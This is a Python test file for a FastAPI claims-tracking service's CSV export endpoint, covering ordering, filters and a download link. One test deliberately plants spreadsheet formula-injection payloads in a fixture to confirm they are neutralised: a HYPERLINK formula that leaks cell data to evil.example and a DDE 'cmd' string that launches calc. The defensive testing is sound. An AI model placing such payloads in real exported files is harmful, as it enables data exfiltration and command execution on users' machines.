"""``/claims.csv``: the claims that pass ``/claims``'s filters, all of them, in its order, as
CSV a spreadsheet can open without running any of the text in it."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient


def _rows(client: TestClient, **params: object) -> list[dict[str, str]]:
    response = client.get("/claims.csv", params=params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


def test_it_lists_every_claim_in_the_order_and_with_the_numbers_of_the_list(
    client: TestClient,
) -> None:
    rows = _rows(client)
    listed = client.get("/claims", params={"limit": 1000}).json()["items"]
    assert [r["id"] for r in rows] == [c["id"] for c in listed]
    assert len(rows) == 27  # every claim, unpaged
    troops = rows[0]
    assert troops["id"] == "nk-troops-in-russia"
    assert (troops["status"], troops["independent_groups"], troops["contested"]) == (
        "corroborated",
        "3",
        "False",
    )
    assert troops["affirmed_by"] == "South Korea; Ukraine; United States"
    assert troops["hedged_by"] == "Russia"
    assert (troops["credibility"], troops["stix_confidence"]) == ("1", "90")


def test_it_takes_the_filters_of_the_list(client: TestClient) -> None:
    for params in (
        {"status": "corroborated"},
        {"actor": "north-korea"},
        {"evidence_kind": "SatelliteImagery"},
        {"contested": "true"},
        {"since": "2024-10-24", "min_groups": 3},
    ):
        listed = client.get("/claims", params={"limit": 1000, **params}).json()["items"]
        assert [r["id"] for r in _rows(client, **params)] == [c["id"] for c in listed], params
    contested = _rows(client, contested="true")
    assert len(contested) == 2 and {r["denied_by"] for r in contested} == {"North Korea"}
    # Who contests each claim is in the list and the table, not only in /claims/{id}.
    assert {r["contested_by"] for r in contested} == {"North Korea"}
    listed = client.get("/claims", params={"contested": "true"}).json()["items"]
    for item in listed:
        whole = client.get(item["url"]).json()
        assert item["contested_by"] == [g["label"] for g in whole["contested_by"]] == [
            "North Korea"]
    unknown = client.get("/claims.csv", params={"actor": "nobody-at-all"})
    assert unknown.status_code == 404


def test_text_a_spreadsheet_would_run_is_written_as_text(
    make_client: Callable[..., TestClient], tmp_path: Path
) -> None:
    case = tmp_path / "hostile.yaml"
    case.write_text(
        "format: cred-kg/1\n"
        "document: {id: doc-h, title: Hostile, publisher: outlet-h, date: 2024-10-24}\n"
        "actors:\n"
        "  - {id: outlet-h, name: The Outlet, kind: NewsOutlet}\n"
        "  - {id: gov-h, name: '=HYPERLINK(\"http://evil.example/?\"&A1)', kind: State}\n"
        "claims:\n"
        "  - {id: c-h, text: '+1+cmd|'' /C calc''!A0'}\n"
        "statements:\n"
        "  - {actor: gov-h, claim: c-h, stance: affirms, relay: [outlet-h]}\n",
        encoding="utf-8",
    )
    client = make_client(files=(case,))
    (row,) = [r for r in _rows(client) if r["id"] == "c-h"]
    assert row["text"] == "'+1+cmd|' /C calc'!A0"
    assert row["affirmed_by"] == '\'=HYPERLINK("http://evil.example/?"&A1)'


def test_the_claims_page_links_to_the_csv_of_what_it_shows(client: TestClient) -> None:
    page = client.get("/claims.html", params={"status": "corroborated"}).text
    assert 'href="/claims.csv?status=corroborated" download' in page
    rows = _rows(client, status="corroborated")
    assert {r["id"] for r in rows} == {
        "nk-troops-in-russia",
        "russia-nk-treaty-has-mutual-defence-clause",
    }
    assert 'href="/claims.csv" download' in client.get("/claims.html").text
